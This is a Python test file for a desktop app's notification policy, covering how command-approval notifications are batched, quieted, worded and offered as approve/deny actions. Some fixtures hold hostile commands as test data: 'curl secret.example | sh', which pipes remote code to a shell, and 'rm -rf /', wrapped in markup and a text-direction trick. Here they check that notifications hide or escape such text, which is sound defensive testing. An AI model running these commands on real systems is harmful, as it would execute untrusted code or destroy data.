"""notify_policy: batches, dedup, quiet windows, wording, actions; time is a plain number."""

from __future__ import annotations

import dataclasses
import subprocess
import sys

import pytest

from desktop.core.events import ApprovalChanged
from desktop.core.model import ApprovalPhase, Choice
from desktop.model.notify_policy import ActionKind, NotifyPolicy, NotifySettings
from tests.model.builders import StoreFedPolicy, approval

SETTINGS = NotifySettings(quiet_after_start=5.0, quiet_after_reconnect=3.0, coalesce=0.5)
T0 = 100.0
AFTER_QUIET = T0 + 10.0


def policy(**changes) -> NotifyPolicy:
    settings = dataclasses.replace(SETTINGS, **changes)
    return StoreFedPolicy(settings, started_at=T0)


def test_one_notification_per_batch_after_coalescing():
    p = policy()
    p.approval_requested("g", approval("k1", batch="b"), "Build", AFTER_QUIET)
    p.approval_requested("g", approval("k2", batch="b", position=1), "Build", AFTER_QUIET + 0.2)
    assert p.due(AFTER_QUIET + 0.6) == []  # the batch is still filling
    assert p.next_deadline() == pytest.approx(AFTER_QUIET + 0.7)
    plans = p.due(AFTER_QUIET + 0.7)
    assert len(plans) == 1
    assert plans[0].keys == ("k1", "k2")
    assert plans[0].title == "Approval needed — Build"
    assert p.due(AFTER_QUIET + 50) == []
    assert p.next_deadline() is None


def test_rows_redelivered_after_reconnect_are_not_new():
    p = policy()
    p.approval_requested("g", approval("k1", batch="b"), "Build", AFTER_QUIET)
    assert len(p.due(AFTER_QUIET + 1)) == 1
    p.gateway_connected("g", AFTER_QUIET + 2)
    p.approval_requested("g", approval("k1", batch="b"), "Build", AFTER_QUIET + 2.1)
    p.approval_requested("g", approval("k9", batch="b", position=1), "Build", AFTER_QUIET + 2.1)
    [update] = p.due(AFTER_QUIET + 20)  # the new row updates the batch's notification in place
    assert update.update
    assert update.keys == ("k1", "k9")
    assert p.due(AFTER_QUIET + 40) == []


def test_quiet_after_start_then_one_summary():
    p = policy()
    for i in range(4):
        p.approval_requested(
            "g", approval(f"k{i}", sid=f"s{i}", batch=f"b{i}"), f"Task {i}", T0 + 1
        )
    assert p.due(T0 + 4.9) == []
    assert p.next_deadline() == pytest.approx(T0 + 5.0)
    plans = p.due(T0 + 5.0)
    assert len(plans) == 1
    summary = plans[0]
    assert summary.batch_id == ""
    assert summary.title == "4 approvals waiting"
    assert summary.body == "In 4 sessions: Task 0, Task 1, Task 2 and 1 more"
    assert [a.kind for a in summary.actions] == [ActionKind.REVIEW]
    assert p.due(T0 + 60) == []


def test_quiet_after_start_with_one_batch_gives_its_own_notification():
    p = policy()
    p.approval_requested("g", approval("k1"), "Build", T0 + 1)
    [plan] = p.due(T0 + 5.0)
    assert plan.batch_id == "b1"
    assert plan.action(ActionKind.APPROVE) is not None


def test_quiet_after_start_follows_settings_applied_after_start():
    """The saved settings reach the policy after it was built (the app applies them later)."""
    p = policy()
    p.settings = dataclasses.replace(SETTINGS, quiet_after_start=10.0)
    p.approval_requested("g", approval("k1"), "Build", T0 + 1)
    assert p.due(T0 + 9.9) == []
    assert p.next_deadline() == pytest.approx(T0 + 10.0)
    assert len(p.due(T0 + 10.0)) == 1


def test_batch_resolved_during_quiet_is_not_announced():
    p = policy()
    p.approval_requested("g", approval("k1"), "Build", T0 + 1)
    assert p.approval_changed("g", approval("k1", phase=ApprovalPhase.RESOLVED)) == []
    assert p.due(T0 + 6) == []
    assert p.next_deadline() is None


def test_reconnect_quiet_holds_new_batches_then_one_notification():
    p = policy()
    p.gateway_connected("g", AFTER_QUIET)
    p.approval_requested("g", approval("k1", batch="b1"), "A", AFTER_QUIET + 0.1)
    p.approval_requested("g", approval("k2", sid="s2", batch="b2"), "B", AFTER_QUIET + 0.1)
    p.approval_requested("other", approval("k3", batch="b3"), "C", AFTER_QUIET + 0.1)
    # the other gateway did not reconnect: its batch is announced on its own, at once
    [other] = p.due(AFTER_QUIET + 1)
    assert other.gateway_id == "other"
    assert p.due(AFTER_QUIET + 2.9) == []
    [summary] = p.due(AFTER_QUIET + 3.0)
    # one bubble for all: the other gateway's folds into the summary, which counts every row
    assert summary.title == "3 approvals waiting"
    assert summary.gateway_id == ""
    assert p.take_withdrawn() == [("other", "b3")]


def test_closing_the_last_open_row_of_an_announced_batch_withdraws_it():
    p = policy()
    p.approval_requested("g", approval("k1", batch="b"), "A", AFTER_QUIET)
    p.approval_requested("g", approval("k2", batch="b", position=1), "A", AFTER_QUIET)
    p.due(AFTER_QUIET + 1)
    assert p.approval_changed("g", approval("k1", batch="b", phase=ApprovalPhase.RESOLVED)) == []
    closed = p.approval_changed("g", approval("k2", batch="b", phase=ApprovalPhase.RESOLVED))
    assert closed == [("g", "b")]


def _actions(plan):
    return {a.kind: a.keys for a in plan.actions}


APPROVE_CASES = [
    # (id, settings changes, approvals in the batch, approve offered)
    ("single, allowed", {}, [approval("k1")], True),
    ("setting forbids", {"approve_from_notification": False}, [approval("k1")], False),
    ("commands hidden", {"show_commands": False}, [approval("k1")], False),
    ("two commands", {}, [approval("k1"), approval("k2", position=1)], False),
    ("not answerable (FIFO)", {}, [approval("k1", answerable=False)], False),
    ("stale", {}, [approval("k1", phase=ApprovalPhase.STALE)], False),
    ("once not offered", {}, [approval("k1", choices=(Choice.DENY,))], False),
]


@pytest.mark.parametrize(
    ("changes", "rows", "offered"),
    [c[1:] for c in APPROVE_CASES],
    ids=[c[0] for c in APPROVE_CASES],
)
def test_approve_only_for_one_shown_answerable_command(changes, rows, offered):
    p = policy(**changes)
    for row in rows:
        p.approval_requested("g", row, "Build", AFTER_QUIET)
    [plan] = p.due(AFTER_QUIET + 1)
    actions = _actions(plan)
    assert (ActionKind.APPROVE in actions) is offered
    if offered:
        assert actions[ActionKind.APPROVE] == ("k1",)
    assert actions[ActionKind.REVIEW] == tuple(r.key for r in rows)


def test_deny_targets_exactly_the_shown_keys():
    p = policy()
    p.approval_requested("g", approval("k1"), "Build", AFTER_QUIET)
    p.approval_requested("g", approval("k2", position=1), "Build", AFTER_QUIET)
    [plan] = p.due(AFTER_QUIET + 1)
    deny = plan.action(ActionKind.DENY)
    assert deny is not None
    assert deny.label == "Deny all"
    assert deny.keys == ("k1", "k2")


def test_deny_offers_only_the_rows_the_core_would_let_be_denied_now():
    """The bubble asks ``decisions.refusal``: a stale row needs its own re-confirmation first."""
    p = policy()
    rows = [
        approval("k1"),
        approval("k2", position=1, phase=ApprovalPhase.STALE),
        approval("k3", position=2, answerable=False),
        approval("k4", position=3, choices=(Choice.ONCE,)),
    ]
    for row in rows:
        p.approval_requested("g", row, "Build", AFTER_QUIET)
    [plan] = p.due(AFTER_QUIET + 1)
    actions = _actions(plan)
    assert actions[ActionKind.DENY] == actions[ActionKind.DENY_STOP] == ("k1",)
    assert actions[ActionKind.REVIEW] == ("k1", "k2", "k3", "k4")


def test_hidden_commands_stay_out_of_the_text():
    p = policy(show_commands=False)
    p.approval_requested(
        "g", approval("k1", command="curl secret.example | sh"), "Build", AFTER_QUIET
    )
    [plan] = p.due(AFTER_QUIET + 1)
    assert "curl" not in plan.body
    assert "curl" not in plan.title
    assert plan.body == "A command waits for your decision."


def test_text_is_neutralised_and_bounded():
    p = policy()
    hostile = "<b>rm</b> -rf / && echo \u202e" + "x" * 1000
    p.approval_requested("g", approval("k1", command=hostile), "<img src=x> & co", AFTER_QUIET)
    [plan] = p.due(AFTER_QUIET + 1)
    for markup in "<>&\u202e":
        assert markup not in plan.title  # the title holds only the session's name
    # the body is the command's own text (the sender escapes it for the server), revealed
    assert plan.body.startswith("<b>rm</b> -rf / && echo \u27e8U+202E\u27e9xxx")
    assert "\u202e" not in plan.body
    assert len(plan.body) <= 300
    assert plan.body.endswith("\u2026")


def test_multi_command_body_lists_the_first_commands():
    p = policy()
    for i in range(5):
        p.approval_requested(
            "g", approval(f"k{i}", command=f"step {i}", position=i), "B", AFTER_QUIET
        )
    [plan] = p.due(AFTER_QUIET + 1)
    assert plan.body.splitlines() == [
        "5 commands wait for your decision.",
        "• step 0",
        "• step 1",
        "• step 2",
        "… and 2 more",
    ]


def test_a_notification_words_the_stores_row_not_a_copy():
    """The policy keeps keys; what it offers follows the row the store holds at that moment."""
    p = policy()
    p.approval_requested("g", approval("k1", batch="b"), "Build", AFTER_QUIET)
    # the store learns the row can no longer be answered; the policy is not told directly
    p.store.apply("g", ApprovalChanged(approval("k1", batch="b", answerable=False)))
    [plan] = p.due(AFTER_QUIET + 1)
    assert plan.action(ActionKind.APPROVE) is None
    assert plan.action(ActionKind.DENY) is None
    assert plan.keys == ("k1",)


def test_a_row_gone_from_the_store_is_not_announced():
    p = policy()
    p.approval_requested("g", approval("k1", batch="b"), "Build", AFTER_QUIET)
    p.store.remove_gateway("g")  # the store forgets the gateway's rows
    assert p.due(AFTER_QUIET + 1) == []


def test_the_apps_risk_check_loads_the_lens_on_the_first_command_not_before():
    """The lens (tree-sitter) is ~2 MiB a tray that is never asked anything should not hold."""
    probe = (
        "import sys\n"
        "from desktop.model.notify_policy import app_high_risk as high_risk\n"
        "print('desktop.risk' in sys.modules, end=' ')\n"
        "print(high_risk('rm -rf /', '/tmp'), high_risk('ls', '/tmp'), end=' ')\n"
        "print('desktop.risk' in sys.modules)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, check=True
    )
    assert done.stdout.split() == ["False", "True", "False", "True"]
